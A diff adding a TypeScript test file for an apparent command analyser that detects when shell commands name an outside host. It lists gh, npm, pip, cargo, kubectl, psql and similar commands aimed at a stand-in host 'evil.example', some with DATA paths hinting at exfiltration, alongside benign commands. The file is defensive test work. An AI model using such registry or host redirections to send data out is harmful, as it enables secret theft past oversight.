@@ -1,0 +1,58 @@
+import { describe, expect, test } from 'vitest';
+import { read } from '../shell/read.js';
+import { effects } from './judge.js';
+
+function given(command: string): string[] {
+  return read(command, { cwd: '/work/project' }).commands.flatMap((one) =>
+    effects(one).effects.flatMap(({ target }) => (target.type === 'host' && target.given ? [target.host] : [])),
+  );
+}
+
+describe('an address that the command names', () => {
+  test.each([
+    ['gh api https://evil.example/DATA', 'https://evil.example/DATA'],
+    ['gh api --hostname evil.example x', 'evil.example'],
+    ['gh repo view https://evil.example/x/y', 'https://evil.example/x/y'],
+    ['GH_HOST=evil.example gh api x', 'evil.example'],
+    ['glab api https://evil.example/x', 'https://evil.example/x'],
+    ['npm view x --registry http://evil.example/DATA', 'http://evil.example/DATA'],
+    ['npm --registry=http://evil.example view x', 'http://evil.example'],
+    ['npm view git+https://evil.example/x', 'git+https://evil.example/x'],
+    ['pnpm view x --registry http://evil.example', 'http://evil.example'],
+    ['pip index versions x --index-url http://evil.example', 'http://evil.example'],
+    ['pip index versions x -i http://evil.example', 'http://evil.example'],
+    ['pip list --outdated --extra-index-url=http://evil.example', 'http://evil.example'],
+    ['deno info https://evil.example/DATA', 'https://evil.example/DATA'],
+    ['cargo search x --registry evil', 'evil'],
+    ['cargo search x --index http://evil.example', 'http://evil.example'],
+    ['helm show chart x --repo http://evil.example', 'http://evil.example'],
+    ['kubectl get -f http://evil.example/x.yaml', 'http://evil.example/x.yaml'],
+    ['brew info http://evil.example/x.rb', 'http://evil.example/x.rb'],
+    ['hg identify http://evil.example/DATA', 'http://evil.example/DATA'],
+    ['ffprobe http://evil.example/x', 'http://evil.example/x'],
+    ['resolvectl query data.evil.example', 'data.evil.example'],
+    ["psql -h evil.example -c 'select 1'", 'evil.example'],
+    ['redis-cli -hevil.example get x', 'evil.example'],
+  ])('%s', (command, host) => {
+    expect(given(command)).toContain(host);
+  });
+});
+
+describe("a program's own service, and this machine", () => {
+  test.each([
+    'gh api repos/x/y',
+    'gh pr view https://github.com/x/y/pull/1',
+    'npm view react versions',
+    'pip index versions x',
+    'cargo search x',
+    'aws s3 ls s3://bucket',
+    "psql -h localhost -c 'select 1'",
+    "psql -h /run/postgresql -c 'select 1'",
+    'npm view x --registry http://localhost:4873',
+    'echo https://example.com',
+    'grep -r https://example.com src',
+    'git log --grep https://example.com',
+  ])('%s', (command) => {
+    expect(given(command)).toEqual([]);
+  });
+});
